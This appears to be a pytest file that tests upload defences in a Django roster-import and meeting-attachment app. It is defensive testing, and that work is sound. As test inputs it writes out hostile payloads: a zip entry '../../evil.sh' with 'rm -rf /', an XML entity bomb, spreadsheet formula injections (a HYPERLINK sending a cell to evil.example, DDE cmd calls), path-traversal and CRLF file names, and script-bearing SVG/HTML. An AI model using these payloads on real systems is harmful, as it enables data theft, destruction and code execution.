"""Upload attacks on the roster import and meeting attachments, through the real pages (issue 6, point 3).

Each attack gets a clear Chinese message (or is stored safely under a generated name) and changes nothing:
no member, no membership, no attachment row, no file under MEDIA_ROOT.
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from branches import roster
from branches.models import Member, Membership
from meetings.models import MeetingAttachment
from tests.branches.fixtures_roster import build_roster, roster_row, roster_upload, upload, valid_rows
from tests.meetings.meeting_helpers import K, plan

pytestmark = pytest.mark.django_db

IMPORT_URL = "/roster/import/"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run in DOS mode."


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media_root) -> list[str]:
    return sorted(str(p.relative_to(media_root)) for p in media_root.rglob("*") if p.is_file())


def roster_state():
    return Member.objects.count(), Membership.objects.count(), Member.history.count()


def post_roster(client_for, file):
    return client_for("secretary").post(IMPORT_URL, {"file": file})


def xlsx_with_members_sheet(mutate) -> bytes:
    """A valid one-row roster whose zip members are then rewritten by mutate({name: bytes}) -> {name: bytes}."""
    source = zipfile.ZipFile(io.BytesIO(build_roster(valid_rows(1, "EA-B1"))))
    parts = mutate({name: source.read(name) for name in source.namelist()})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


# ---- roster import: the file ---------------------------------------------------------------------------------


def test_roster_too_large_is_refused_and_changes_nothing(client_for, tree, settings, media):
    settings.ROSTER_MAX_UPLOAD_BYTES = 4096
    response = post_roster(client_for, roster_upload(valid_rows(80, "EA-B1"), name="大文件.xlsx"))
    assert response.status_code == 200
    assert "文件“大文件.xlsx”超过" in response.content.decode()
    assert roster_state() == (0, 0, 0) and stored_files(media) == [] if media.exists() else True


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("花名册.xlsx", EXE, "已损坏或不是有效的 Excel 文件"),  # an .exe renamed .xlsx
        ("花名册.exe", EXE, "不是 Excel .xlsx 文件"),
        ("花名册.xlsx", b"PK\x03\x04" + b"\x00garbage" * 100, "已损坏或不是有效的 Excel 文件"),  # zip garbage
        ("花名册.xlsx", b"", "提交的是空文件"),  # Django's FileField, before the import runs
    ],
)
def test_roster_of_the_wrong_type_or_broken_is_refused_in_chinese(client_for, tree, name, content, reason):
    response = post_roster(client_for, upload(content, name))
    assert response.status_code == 200
    html = response.content.decode()
    assert reason in html
    assert roster_state() == (0, 0, 0)


def test_a_zip_that_is_not_a_workbook_is_refused(client_for, tree):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
        archive.writestr("../../evil.sh", "rm -rf /")
    response = post_roster(client_for, upload(buffer.getvalue(), "花名册.xlsx"))
    assert "已损坏或不是有效的 Excel 文件" in response.content.decode()
    assert roster_state() == (0, 0, 0)


def test_a_workbook_with_a_broken_sheet_xml_is_refused(client_for, tree):
    content = xlsx_with_members_sheet(
        lambda parts: {n: (b"<worksheet><sheetData><row" if "worksheets/" in n else d) for n, d in parts.items()}
    )
    response = post_roster(client_for, upload(content, "花名册.xlsx"))
    assert "已损坏或不是有效的 Excel 文件" in response.content.decode()
    assert roster_state() == (0, 0, 0)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""


def test_an_xml_entity_bomb_is_refused_without_expanding(client_for, tree):
    content = xlsx_with_members_sheet(
        lambda parts: {n: (BILLION_LAUGHS if "worksheets/" in n else d) for n, d in parts.items()}
    )
    response = post_roster(client_for, upload(content, "花名册.xlsx"))
    assert response.status_code == 200
    assert "已损坏或不是有效的 Excel 文件" in response.content.decode()
    assert roster_state() == (0, 0, 0)


def test_a_roster_with_too_many_rows_stops_at_the_row_limit(client_for, tree, monkeypatch):
    # The same guard that stops a compressed "row bomb" (millions of rows in a small zip) before memory runs out.
    monkeypatch.setattr(roster.parsing, "MAX_ROWS", 20)
    response = post_roster(client_for, roster_upload(valid_rows(25, "EA-B1")))
    assert "超过 20 行" in response.content.decode()
    assert roster_state() == (0, 0, 0)


def test_a_traversal_file_name_is_only_shown_by_its_last_part(client_for, tree, media):
    response = post_roster(client_for, upload(EXE, "../../etc/passwd.xlsx"))
    html = response.content.decode()
    assert "文件“passwd.xlsx”已损坏" in html and "../" not in html.split("passwd.xlsx")[0][-20:]
    assert roster_state() == (0, 0, 0)
    assert not media.exists() or stored_files(media) == []


# ---- roster import: formula injection in cells ---------------------------------------------------------------


def _formula_workbook(**cells) -> bytes:
    """One valid row whose given columns hold real formulas (openpyxl stores "=..." as a formula, no cached value)."""
    return build_roster([roster_row("EA-B1", 1, **cells)])


def _text_workbook(**cells) -> bytes:
    """One valid row whose given columns hold TEXT that starts with "=" (what Excel shows as a formula when exported)."""
    keys = [c.key for c in roster.COLUMNS]
    wb = Workbook()
    ws = wb.active
    ws.title = roster.DATA_SHEET
    ws.append([c.title for c in roster.COLUMNS])
    row = roster_row("EA-B1", 1)
    ws.append([None if k in cells else row.get(k) for k in keys])
    for key, text in cells.items():
        cell = ws.cell(row=2, column=keys.index(key) + 1)
        cell.value = text
        cell.data_type = "s"  # force a string cell: the attacker's file need not mark it as a formula
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("formula", [HYPERLINK, DDE])
def test_a_formula_in_a_required_cell_is_refused_with_the_row_named(client_for, tree, formula):
    response = post_roster(client_for, upload(_formula_workbook(name=formula)))
    html = response.content.decode()
    assert "未导入任何党员" in html and "第 2 行" in html
    assert roster_state() == (0, 0, 0)


def test_a_formula_in_an_optional_cell_is_never_stored_as_a_formula(client_for, tree):
    post_roster(client_for, upload(_formula_workbook(position=DDE, phone=HYPERLINK)))
    # Either refused, or imported with the formula dropped (a formula has no value when read): never stored as text.
    assert not Member.objects.filter(position__startswith="=").exists()
    assert not Member.objects.filter(phone__startswith="=").exists()


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("name", DDE),
        ("name", HYPERLINK),
        ("position", "=cmd|' /C calc'!A0"),
        ("position", "+SUM(1+1)*cmd|' /C calc'!A0"),
        ("position", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("position", "-2+3+cmd|' /C calc'!A0"),
    ],
)
def test_formula_text_in_a_cell_is_refused_with_a_chinese_message(client_for, tree, column, text):
    response = post_roster(client_for, upload(_text_workbook(**{column: text})))
    html = response.content.decode()
    assert "未导入任何党员" in html and "公式" in html
    assert roster_state() == (0, 0, 0)


def test_a_phone_number_with_a_country_code_is_not_mistaken_for_a_formula(client_for, tree):
    post_roster(client_for, upload(_text_workbook(phone="+8613912345678")))
    assert Member.objects.filter(phone="+8613912345678").exists()


# ---- meeting attachments -------------------------------------------------------------------------------------


@pytest.fixture
def meeting(tree, members, cast):
    return plan(tree, K.BRANCH_COMMITTEE, topic="研究发展党员", user=cast.secretary)


def post_attachment(client_for, meeting, name, content, *, follow=True):
    return client_for("secretary").post(
        reverse("meetings:attachment_upload", args=[meeting.pk]),
        {"kind": "sign_in", "file": SimpleUploadedFile(name, content)},
        follow=follow,
    )


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("签到表.exe", EXE, "只能上传 JPG、PNG 或 PDF 文件。"),
        ("签到表.pdf", EXE, "文件内容与扩展名不符"),  # an .exe renamed .pdf
        ("签到表.png", b"<html><script>alert(1)</script></html>", "文件内容与扩展名不符"),
        (
            "签到表.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "只能上传 JPG、PNG 或 PDF 文件。",
        ),
        ("签到表.html", b"<script>alert(1)</script>", "只能上传 JPG、PNG 或 PDF 文件。"),
        ("签到表.pdf.exe", EXE, "只能上传 JPG、PNG 或 PDF 文件。"),
        ("签到表.xlsx", build_roster([]), "只能上传 JPG、PNG 或 PDF 文件。"),
        ("空文件.pdf", b"", "请选择要上传的文件。"),  # Django's FileField refuses an empty upload first
    ],
)
def test_attachment_of_the_wrong_type_is_refused_in_chinese(client_for, meeting, media, name, content, message):
    response = post_attachment(client_for, meeting, name, content)
    assert response.status_code == 200
    assert any(message in m for m in messages_of(response)), messages_of(response)
    assert not MeetingAttachment.objects.exists()
    assert not media.exists() or stored_files(media) == []


def test_attachment_too_large_is_refused(client_for, meeting, media, settings):
    settings.MEETING_ATTACHMENT_MAX_BYTES = 1024 * 1024
    response = post_attachment(client_for, meeting, "扫描件.pdf", PDF + b"0" * (1024 * 1024))
    assert any("文件过大:最大 1 MB" in m for m in messages_of(response))
    assert not MeetingAttachment.objects.exists()
    assert not media.exists() or stored_files(media) == []


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/cron.d/x.pdf", "a.pdf\r\nX-Injected: 1.pdf"],
)
def test_attachment_with_a_traversal_name_is_stored_under_a_generated_name(client_for, meeting, media, name):
    response = post_attachment(client_for, meeting, name, PDF)
    assert any("附件已上传" in m for m in messages_of(response))
    attachment = MeetingAttachment.objects.get()
    assert "/" not in attachment.original_name and "\\" not in attachment.original_name
    assert "\r" not in attachment.original_name and "\n" not in attachment.original_name
    files = stored_files(media)
    assert files == [attachment.file.name] and files[0].startswith("meetings/") and ".." not in files[0]
    assert (media / files[0]).resolve().is_relative_to(media.resolve())
    download = client_for("secretary").get(reverse("meetings:attachment_download", args=[attachment.pk]))
    assert download.status_code == 200 and download["Content-Type"] == "application/pdf"
    assert "\n" not in download["Content-Disposition"] and "/" not in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == PDF


def test_attachment_attacks_from_an_outsider_or_reviewer_store_nothing(client_for, meeting, media):
    url = reverse("meetings:attachment_upload", args=[meeting.pk])
    assert (
        client_for("secretary2").post(url, {"kind": "sign_in", "file": SimpleUploadedFile("a.pdf", PDF)}).status_code
        == 404
    )
    assert (
        client_for("sasac").post(url, {"kind": "sign_in", "file": SimpleUploadedFile("a.pdf", PDF)}).status_code == 403
    )
    assert client_for(None).post(url, {"kind": "sign_in", "file": SimpleUploadedFile("a.pdf", PDF)}).status_code == 302
    assert not MeetingAttachment.objects.exists()
    assert not media.exists() or stored_files(media) == []
